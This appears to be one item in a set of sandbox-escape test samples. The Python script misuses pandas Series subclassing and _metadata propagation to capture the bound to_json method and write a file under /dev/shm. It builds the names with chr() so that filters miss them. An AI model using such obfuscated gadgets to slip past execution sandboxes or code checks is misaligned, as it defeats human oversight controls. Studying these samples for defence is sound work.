# source: same as 001 (pandas subclassing docs, _metadata)
# family: pandas _metadata getattr gadget, Series variant via s.abs()
# goal: grabs Series.to_json and writes /dev/shm/pwn_h02.json with a computed path
import pandas as pd
GRAB = []
NAME = "to" + chr(95) + "json"
class Out(pd.Series):
    _metadata = [NAME]
    @property
    def _constructor(self):
        return Out
    @property
    def to_json(self):
        return None
    @to_json.setter
    def to_json(self, value):
        GRAB.append(value)
class In(pd.Series):
    _metadata = [NAME]
    @property
    def _constructor(self):
        return Out
s = In([1.0, -2.0, 3.0])
a = s.abs()
sep = chr(47)
GRAB[0](sep + sep.join(["dev", "shm", "pwn_h02.json"]))
print("wrote via", GRAB[0])
